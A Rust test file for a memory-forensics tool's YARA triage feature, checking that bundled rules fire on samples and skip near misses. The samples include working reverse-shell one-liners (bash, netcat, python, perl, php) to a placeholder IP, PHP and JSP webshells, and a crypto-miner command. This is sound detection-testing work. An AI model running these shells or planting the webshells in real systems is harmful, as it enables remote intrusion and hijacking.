//! YARA in triage (`rule: yara`): every bundled rule has a case that fires and one that does
//! not; a string across two pages of one area matches (checkpoint and kernel dump, pages
//! physically apart included), one across two areas does not; one process built as a
//! checkpoint and as a kernel dump gives the same addresses; physical memory at physical
//! addresses; the cap; a bad rule file is a clear error; matched bytes reach the terminal
//! escaped.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::expect_used)]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;

use podmortem::engine::checkpoint::pagemap::PAGE_SIZE;
use podmortem::engine::checkpoint::proto;
use podmortem::engine::evidence::{Evidence, EvidenceKind, Pid, VmaKind};
use podmortem::engine::kernel::dump::KernelDump;
use podmortem::engine::kernel::isf::CacheDir;
use podmortem::engine::triage::{Detection, Options, Rule, Severity, YaraRules, triage};
use podmortem::engine::yara::{MAX_PER_AREA, Rules};

use crate::support::ckpt::{self, Checkpoint, Proc, anon_proc, one_proc, open_tar};
use crate::support::scale::DumpParams;
use crate::support::scale::dump::Dump;
use crate::support::scale::lime::write_lime;
use crate::support::triage_ev::{Ev, proc_};

/// Every bundled rule: (rule, text that fires it, a near miss that fires no rule).
const CASES: [(&str, &str, &str); 12] = [
    (
        "miner_stratum_url",
        "xmrig -o stratum+tcp://pool.example.net:3333 -u 4Awallet",
        "the stratum protocol; see tcp://pool.example.net:3333",
    ),
    (
        "miner_xmrig_config",
        r#"{"autosave": true, "donate-level": 1, "randomx": {"1gb-pages": false}, "pools": []}"#,
        r#"{"donate-level": 5, "rig-id": null, "log-file": "/var/log/app"}"#,
    ),
    (
        "miner_pool_host",
        "connect to gulf.moneroocean.stream:10128 failed",
        "moneroocean is not a stream; pool.example.com",
    ),
    (
        "reverse_shell_dev_tcp",
        "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
        "cat < /dev/tcp/time.nist.gov/13; bash -i",
    ),
    (
        "reverse_shell_netcat",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f",
        "nc -l -p 8080 & while :; do sleep 3600; done",
    ),
    (
        "reverse_shell_python_pty",
        r#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.66",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'"#,
        r#"python3 -c 'import pty; pty.spawn("/bin/bash")'"#,
    ),
    (
        "reverse_shell_perl_socket",
        r#"perl -e 'use Socket;$i="203.0.113.66";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'"#,
        r#"socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); print S "GET / HTTP/1.0";"#,
    ),
    (
        "reverse_shell_php_socket",
        r#"php -r '$sock=fsockopen("203.0.113.66",4444);exec("/bin/sh -i <&3 >&3 2>&3");'"#,
        r#"$fp = fsockopen("www.example.com", 80); fwrite($fp, "GET / HTTP/1.0");"#,
    ),
    (
        "webshell_php_eval_decode",
        r#"<?php eval(base64_decode("ZWNobyAnaGknOw==")); ?>"#,
        r#"<?php echo base64_decode($data); eval_settings(); ?>"#,
    ),
    (
        "webshell_php_request_exec",
        r#"<?php system($_GET['cmd']); ?>"#,
        r#"<?php echo htmlspecialchars($_GET['name']); system("uptime"); ?>"#,
    ),
    (
        "webshell_known_kits",
        "<title>!C99Shell v. 2.0 [PHP 7 Update]</title>",
        "<title>Admin panel</title> c99 r57",
    ),
    (
        "webshell_jsp_runtime_exec",
        r#"<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>"#,
        r#"Runtime.getRuntime().exec(new String[]{"/usr/bin/convert", input});"#,
    ),
];

const HEAP: u64 = 0x5555_0000_0000;

/// A process `pid` whose heap holds `text` (at an odd offset).
fn holding(pid: Pid, text: &str) -> crate::support::triage_ev::P {
    proc_(pid, "app", &["/usr/bin/app"], Some("/usr/bin/app"))
        .vma(HEAP, HEAP + 0x4000, "rw-p", VmaKind::Heap, Some("[heap]"))
        .bytes(HEAP + 0x123, text.as_bytes())
}

fn yara_of(ds: &[Detection]) -> Vec<&Detection> {
    ds.iter().filter(|d| d.rule == Rule::Yara).collect()
}

fn no_secrets() -> Options {
    Options {
        scan_memory: false,
        ..Options::default()
    }
}

#[test]
fn every_bundled_rule_fires_on_its_case_and_not_on_a_near_miss() {
    let procs = CASES
        .iter()
        .enumerate()
        .map(|(i, (_, pos, _))| holding(100 + i as Pid, pos))
        .collect();
    let ev = Ev::new(EvidenceKind::Checkpoint, procs);
    let report = triage(&ev, &no_secrets(), &AtomicBool::new(false), &mut |_| {}).unwrap();
    assert!(report.problems.is_empty(), "{:?}", report.problems);
    for (i, (rule, _, _)) in CASES.iter().enumerate() {
        let pid = 100 + i as Pid;
        let fired: BTreeSet<&str> = yara_of(&report.detections)
            .iter()
            .filter(|d| d.pid == Some(pid))
            .map(|d| d.yara.as_ref().unwrap().rule.as_str())
            .collect();
        assert_eq!(fired, BTreeSet::from([*rule]), "pid {pid}");
        let d = yara_of(&report.detections)
            .into_iter()
            .find(|d| d.pid == Some(pid))
            .unwrap();
        let y = d.yara.as_ref().unwrap();
        assert_eq!(y.namespace, "podmortem");
        assert!(y.string.starts_with('$'), "{y:?}");
        assert!(d.severity >= Severity::High, "{rule}");
        assert_eq!((d.start, d.end), (Some(HEAP), Some(HEAP + 0x4000)));
        assert!((HEAP + 0x123..HEAP + 0x400).contains(&d.address.unwrap()));
        assert_eq!(d.path.as_deref(), Some("[heap]"));
        assert!(
            d.reason.contains(&format!("podmortem:{rule}")),
            "{}",
            d.reason
        );
    }
    // The near misses, all in one process: nothing.
    let all: String = CASES.iter().map(|(_, _, neg)| format!("{neg}\n")).collect();
    let ev = Ev::new(EvidenceKind::Checkpoint, vec![holding(7, &all)]);
    let report = triage(&ev, &no_secrets(), &AtomicBool::new(false), &mut |_| {}).unwrap();
    assert!(yara_of(&report.detections).is_empty(), "{report:#?}");
    // Off: no YARA at all.
    let ev = Ev::new(EvidenceKind::Checkpoint, vec![holding(7, CASES[0].1)]);
    let off = Options {
        yara: YaraRules::Off,
        ..no_secrets()
    };
    let report = triage(&ev, &off, &AtomicBool::new(false), &mut |_| {}).unwrap();
    assert!(yara_of(&report.detections).is_empty());
}

/// Rules compiled from `text` (without the bundled ones), written into `dir`.
fn rules(dir: &Path, name: &str, text: &str) -> Arc<Rules> {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    Arc::new(Rules::compile(false, Some(&path)).unwrap())
}

/// (pid, address) of every YARA match of `rules` in `ev`'s processes (and physical memory
/// when asked: pid 0 there).
fn scan(ev: &dyn Evidence, rules: &Rules, physical: bool) -> BTreeSet<(Pid, u64)> {
    let procs = ev.processes().unwrap();
    let out = podmortem::engine::triage::yara::scan(
        ev,
        rules,
        &procs,
        physical,
        &AtomicBool::new(false),
        &mut |_, _| {},
    );
    assert!(out.problems.is_empty(), "{:?}", out.problems);
    out.detections
        .iter()
        .map(|d| match d.phys_address {
            Some(a) => (0, a),
            None => (d.pid.unwrap(), d.address.unwrap()),
        })
        .collect()
}

const NEEDLE: &str = "PMYARA-needle-0123456789";
const NEEDLE_RULE: &str =
    "rule needle { strings: $n = \"PMYARA-needle-0123456789\" condition: $n }";

/// A checkpoint: one process with a 4-page area at `base` and, adjacent, a 4-page area at
/// `base + 4 pages`, every page captured; `at` holds the needle.
fn two_areas(base: u64, at: u64) -> Checkpoint {
    let mut p: Proc = anon_proc("app", base, 4);
    p.vmas.push(ckpt::vma(
        base + 4 * PAGE_SIZE,
        base + 8 * PAGE_SIZE,
        3,
        proto::mm::MAP_PRIVATE | proto::mm::MAP_ANONYMOUS,
        proto::mm::VMA_AREA_REGULAR | proto::mm::VMA_ANON_PRIVATE,
        0,
        0,
    ));
    for i in 0..8 {
        p.poke(base + i * PAGE_SIZE, b"x");
    }
    p.poke(at, NEEDLE.as_bytes());
    one_proc(p, "host")
}

#[test]
fn a_string_across_two_pages_of_one_area_matches_and_across_two_areas_does_not() {
    let tmp = tempfile::tempdir().unwrap();
    let r = rules(tmp.path(), "needle.yar", NEEDLE_RULE);
    let base = 0x7f00_0000_0000;
    // Across the edge of pages 1 and 2 of the first area.
    let across_pages = base + 2 * PAGE_SIZE - 7;
    let ev = open_tar("pages.tar", two_areas(base, across_pages).to_tar()).unwrap();
    assert_eq!(scan(&ev, &r, false), BTreeSet::from([(1, across_pages)]));
    // Across the edge of the two areas: no match.
    let across_areas = base + 4 * PAGE_SIZE - 7;
    let ev = open_tar("areas.tar", two_areas(base, across_areas).to_tar()).unwrap();
    assert!(scan(&ev, &r, false).is_empty());
    // Each page its own pagemap entry: still one run, still found.
    let mut c = two_areas(base, across_pages);
    let pm = c.procs[0].effective_pagemap();
    let mut split = Vec::new();
    for e in pm {
        for i in 0..e.nr_pages {
            split.push(ckpt::Pm {
                vaddr: e.vaddr + i * PAGE_SIZE,
                nr_pages: 1,
                ..e
            });
        }
    }
    c.procs[0].pagemap = Some(split);
    let ev = open_tar("entries.tar", c.to_tar()).unwrap();
    assert_eq!(scan(&ev, &r, false), BTreeSet::from([(1, across_pages)]));
}

#[test]
fn pages_not_captured_are_gaps() {
    let tmp = tempfile::tempdir().unwrap();
    let r = rules(
        tmp.path(),
        "gap.yar",
        "rule zeros { strings: $z = { 41 41 00 00 00 00 00 00 00 00 } condition: $z }",
    );
    let base = 0x7f00_0000_0000;
    let mut p = anon_proc("app", base, 4);
    // Page 0 ends with AA; page 1 is not captured (a gap, not zeros); page 2 starts with
    // AA then zeros.
    p.poke(base + PAGE_SIZE - 2, b"AA");
    p.poke(base + 2 * PAGE_SIZE, b"AA");
    let ev = open_tar("gap.tar", one_proc(p, "host").to_tar()).unwrap();
    assert_eq!(
        scan(&ev, &r, false),
        BTreeSet::from([(1, base + 2 * PAGE_SIZE)])
    );
}

/// The small generated dump, written as LiME into `dir`, opened.
fn small_dump(dir: &Path) -> (KernelDump, Dump) {
    let d = Dump::build(&DumpParams::small());
    let (lime, isf) = (dir.join("scale.lime"), dir.join("scale.json"));
    write_lime(&d, &lime);
    std::fs::write(&isf, serde_json::to_vec(&d.isf).unwrap()).unwrap();
    let cache = CacheDir::At(dir.join("isf-cache"));
    (KernelDump::open_with(&lime, &isf, &cache).unwrap(), d)
}

/// Process `pid` of `ev` as a checkpoint: the same memory areas (anonymous), the same
/// captured pages at the same addresses.
fn checkpoint_of(ev: &dyn Evidence, pid: Pid) -> Checkpoint {
    let comm = ev
        .processes()
        .unwrap()
        .into_iter()
        .find(|p| p.pid == pid)
        .unwrap()
        .comm;
    let mut p = anon_proc(&comm, 0, 0);
    (p.pid, p.pgid, p.sid) = (pid, pid, pid);
    p.threads = vec![(pid, comm)];
    p.vmas = ev
        .maps(pid)
        .unwrap()
        .items
        .iter()
        .map(|v| {
            let prot = u32::from(v.perms.read) | u32::from(v.perms.write) << 1;
            ckpt::vma(
                v.start,
                v.end,
                prot | u32::from(v.perms.exec) << 2,
                proto::mm::MAP_PRIVATE | proto::mm::MAP_ANONYMOUS,
                proto::mm::VMA_AREA_REGULAR | proto::mm::VMA_ANON_PRIVATE,
                0,
                0,
            )
        })
        .collect();
    for r in ev.captured_ranges(pid, 0..u64::MAX).unwrap() {
        let mut page = vec![0u8; PAGE_SIZE as usize];
        for at in (r.start..r.end).step_by(PAGE_SIZE as usize) {
            ev.read_memory(pid, at, &mut page).unwrap();
            p.mem.insert(at, page.clone());
        }
    }
    one_proc(p, "host")
}

const PLANT_RULES: &str = r#"
rule plant_mid { strings: $p = /PMSCALE-mid-[0-9]+-[0-9a-f]+;/ condition: $p }
rule plant_page { strings: $p = /PMSCALE-page-[0-9]+-[0-9a-f]+;/ condition: $p }
rule plant_chunk { strings: $p = /PMSCALE-(chunk|window)-[0-9]+-[0-9a-f]+;/ condition: $p }
rule plant_split { strings: $p = /PMSCALE-split-[0-9]+-[0-9a-f]+;/ condition: $p }
"#;

#[test]
fn a_dump_and_a_checkpoint_of_the_same_process_give_the_same_addresses() {
    let tmp = tempfile::tempdir().unwrap();
    let (dump, d) = small_dump(tmp.path());
    let r = rules(tmp.path(), "plants.yar", PLANT_RULES);
    // The dump: every plant at its virtual address, those across two pages that are far
    // apart physically (`split`) included.
    let want: BTreeSet<(Pid, u64)> = d.plants.iter().map(|p| (p.pid, p.vaddr)).collect();
    assert!(d.plants.iter().any(|p| p.kind == "split"));
    assert_eq!(scan(&dump, &r, false), want);
    // Physical memory: the plants whose bytes are contiguous there, at physical addresses.
    let with_phys = scan(&dump, &r, true);
    let phys: BTreeSet<u64> = with_phys
        .iter()
        .filter(|(pid, _)| *pid == 0)
        .map(|(_, a)| *a)
        .collect();
    let want_phys: BTreeSet<u64> = d.plants.iter().filter_map(|p| p.phys).collect();
    assert_eq!(phys, want_phys);
    // Each physical match names the process that maps it, at the plant's virtual address.
    let out = podmortem::engine::triage::yara::scan(
        &dump,
        &r,
        &dump.processes().unwrap(),
        true,
        &AtomicBool::new(false),
        &mut |_, _| {},
    );
    let mut named = 0;
    for det in out.detections.iter().filter(|d| d.phys_address.is_some()) {
        let p = d
            .plants
            .iter()
            .find(|p| p.phys == det.phys_address)
            .unwrap();
        assert_eq!(
            (det.pid, det.address),
            (Some(p.pid), Some(p.vaddr)),
            "{det:?}"
        );
        let mapped = format!("mapped by pid {} (", p.pid);
        assert!(det.reason.contains(&mapped), "{}", det.reason);
        named += 1;
    }
    assert_eq!(named, want_phys.len());
    // One process as a checkpoint: the same addresses.
    let pid = d.plants.iter().find(|p| p.kind == "split").unwrap().pid;
    let c = checkpoint_of(&dump, pid);
    let ev = open_tar("same.tar", c.to_tar()).unwrap();
    let in_dump: BTreeSet<(Pid, u64)> = want.iter().filter(|(p, _)| *p == pid).copied().collect();
    assert_eq!(in_dump.len(), 4);
    assert_eq!(scan(&ev, &r, false), in_dump);
}

#[test]
fn a_noisy_rule_is_capped_per_area_and_says_how_many_it_left_out() {
    let tmp = tempfile::tempdir().unwrap();
    let r = rules(
        tmp.path(),
        "noisy.yar",
        "rule noisy { meta: severity = \"low\" strings: $a = \"NOISE!\" condition: $a }",
    );
    let text = "NOISE!".repeat(50);
    let ev = Ev::new(EvidenceKind::KernelDump, vec![holding(9, &text)]);
    let opts = Options {
        yara: YaraRules::Rules(r),
        ..no_secrets()
    };
    let report = triage(&ev, &opts, &AtomicBool::new(false), &mut |_| {}).unwrap();
    let ds = yara_of(&report.detections);
    assert_eq!(ds.len(), MAX_PER_AREA);
    assert!(ds.iter().all(|d| d.severity == Severity::Low));
    let addrs: Vec<u64> = ds.iter().map(|d| d.address.unwrap()).collect();
    assert_eq!(addrs[0], HEAP + 0x123);
    assert!(addrs.windows(2).all(|w| w[0] + 6 == w[1]), "{addrs:x?}");
    let left: Vec<u64> = ds
        .iter()
        .map(|d| d.yara.as_ref().unwrap().left_out)
        .collect();
    assert_eq!(left.iter().sum::<u64>(), 40);
    assert_eq!(*left.last().unwrap(), 40);
    assert!(ds.last().unwrap().reason.contains("40 more"));
    let json = serde_json::to_value(ds[MAX_PER_AREA - 1]).unwrap();
    assert_eq!(json["rule"], "yara");
    assert_eq!(json["yara_rule"], "noisy");
    assert_eq!(json["yara_namespace"], "noisy");
    assert_eq!(json["yara_string"], "$a");
    assert_eq!(json["yara_data"], "NOISE!");
    assert_eq!(json["yara_left_out"], 40);
    assert!(
        serde_json::to_value(ds[0])
            .unwrap()
            .get("yara_left_out")
            .is_none()
    );
}

fn podmortem(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_podmortem"))
        .args(args)
        .env(
            "PODMORTEM_CACHE_DIR",
            std::env::temp_dir().join("podmortem-yara-tests"),
        )
        .output()
        .unwrap()
}

fn tar_in(dir: &Path, c: &Checkpoint) -> PathBuf {
    let path = dir.join("ckpt.tar");
    std::fs::write(&path, c.to_tar()).unwrap();
    path
}

#[test]
fn a_bad_rule_file_is_an_error_naming_the_file_and_line() {
    let tmp = tempfile::tempdir().unwrap();
    let base = 0x7f00_0000_0000;
    let ev = tar_in(tmp.path(), &two_areas(base, base + 0x10));
    let bad = tmp.path().join("bad.yar");
    std::fs::write(
        &bad,
        "rule ok { condition: true }\n\nrule bad { strings: $a = \"x\" condition: $b }\n",
    )
    .unwrap();
    let out = podmortem(&[
        "triage",
        ev.to_str().unwrap(),
        "--yara",
        bad.to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.yar:3:"), "{err}");
    assert!(err.contains("$b"), "{err}");
    assert!(out.stdout.is_empty());
    // A folder without rules.
    let empty = tmp.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let out = podmortem(&[
        "triage",
        ev.to_str().unwrap(),
        "--yara",
        empty.to_str().unwrap(),
    ]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no .yar or .yara files"));
    // A folder of rules: each file its own namespace.
    let dir = tmp.path().join("rules");
    std::fs::create_dir_all(dir.join("more")).unwrap();
    std::fs::write(dir.join("a.yar"), NEEDLE_RULE).unwrap();
    std::fs::write(dir.join("more/b.yara"), NEEDLE_RULE).unwrap();
    std::fs::write(dir.join("notes.txt"), "not rules").unwrap();
    let ev = tar_in(tmp.path(), &two_areas(base, base + 0x10));
    let out = podmortem(&[
        "triage",
        ev.to_str().unwrap(),
        "--yara",
        dir.to_str().unwrap(),
        "--json",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let ns: BTreeSet<&str> = json
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["rule"] == "yara")
        .map(|d| d["yara_namespace"].as_str().unwrap())
        .collect();
    assert_eq!(ns, BTreeSet::from(["a", "b"]));
}

#[test]
fn matched_bytes_reach_the_terminal_escaped() {
    let tmp = tempfile::tempdir().unwrap();
    let base = 0x7f00_0000_0000;
    let mut p = anon_proc("app", base, 2);
    p.poke(base + 0x40, b"EVIL\x1b[2J\x1b]0;owned\x07\x9b31m tail");
    let ev = tar_in(tmp.path(), &one_proc(p, "host"));
    let rule = tmp.path().join("evil.yar");
    std::fs::write(
        &rule,
        "rule evil { strings: $e = /EVIL[^ ]{1,30}/ condition: $e }",
    )
    .unwrap();
    for json in [false, true] {
        let mut args = vec![
            "triage",
            ev.to_str().unwrap(),
            "--yara",
            rule.to_str().unwrap(),
        ];
        if json {
            args.push("--json");
        }
        let out = podmortem(&args);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !out.stdout
                .iter()
                .any(|&b| b == 0x1b || b == 0x07 || b == 0x9b),
            "raw control bytes in {}",
            String::from_utf8_lossy(&out.stdout)
        );
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("EVIL"), "{text}");
        assert!(text.contains("x1b"), "{text}");
    }
}

#[test]
fn replicas_bundled_rules_stay_quiet_and_a_custom_rule_finds_what_search_finds() {
    let Some(dir) = crate::support::fixture("criu-replicas") else {
        return;
    };
    for r in ["replica-1.tar", "replica-2.tar", "replica-3.tar"] {
        let ev = podmortem::engine::open::open_evidence(
            &dir.join(r),
            &podmortem::engine::open::OpenOptions::default(),
        )
        .unwrap();
        let report = triage(
            &*ev,
            &Options::default(),
            &AtomicBool::new(false),
            &mut |_| {},
        )
        .unwrap();
        assert!(
            yara_of(&report.detections).is_empty(),
            "{r}: {:#?}",
            report.detections
        );
    }
    let ev = podmortem::engine::open::open_evidence(
        &dir.join("replica-3.tar"),
        &podmortem::engine::open::OpenOptions::default(),
    )
    .unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let r = rules(
        tmp.path(),
        "token.yar",
        "rule token { strings: $t = /STOLEN_TOKEN=ghp_[A-Za-z0-9]+/ condition: $t }",
    );
    let req = podmortem::engine::search::SearchRequest {
        regex: regex::bytes::Regex::new("STOLEN_TOKEN=ghp_[A-Za-z0-9]+").unwrap(),
        pids: None,
    };
    let mut sink = podmortem::engine::search::Collect::default();
    podmortem::engine::search::search(&*ev, &req, &AtomicBool::new(false), &mut sink).unwrap();
    let searched: BTreeSet<(Pid, u64)> = sink.hits.iter().filter_map(|h| h.in_process()).collect();
    assert!(searched.len() >= 3, "{searched:?}");
    assert_eq!(scan(&*ev, &r, false), searched);
}

#[test]
fn a_match_across_a_window_edge_of_a_large_area_is_found_once() {
    use podmortem::engine::yara::WINDOW;
    let tmp = tempfile::tempdir().unwrap();
    let r = rules(tmp.path(), "needle.yar", NEEDLE_RULE);
    let edge = HEAP + WINDOW;
    // Captured: two pages around the first window edge, a needle across it and one just
    // after it (in the first window's overlap, reported by the second window only).
    let mut page = vec![b'.'; 0x2000];
    page[0x1000 - 5..0x1000 - 5 + NEEDLE.len()].copy_from_slice(NEEDLE.as_bytes());
    page[0x1100..0x1100 + NEEDLE.len()].copy_from_slice(NEEDLE.as_bytes());
    let p = proc_(3, "java", &["java"], Some("/usr/bin/java"))
        .vma(HEAP, HEAP + 3 * WINDOW, "rw-p", VmaKind::Anon, None)
        .bytes(edge - 0x1000, &page);
    let ev = Ev::new(EvidenceKind::KernelDump, vec![p]);
    assert_eq!(
        scan(&ev, &r, false),
        BTreeSet::from([(3, edge - 5), (3, edge + 0x100)])
    );
    let opts = Options {
        yara: YaraRules::Rules(r),
        ..no_secrets()
    };
    let report = triage(&ev, &opts, &AtomicBool::new(false), &mut |_| {}).unwrap();
    assert_eq!(yara_of(&report.detections).len(), 2);
}
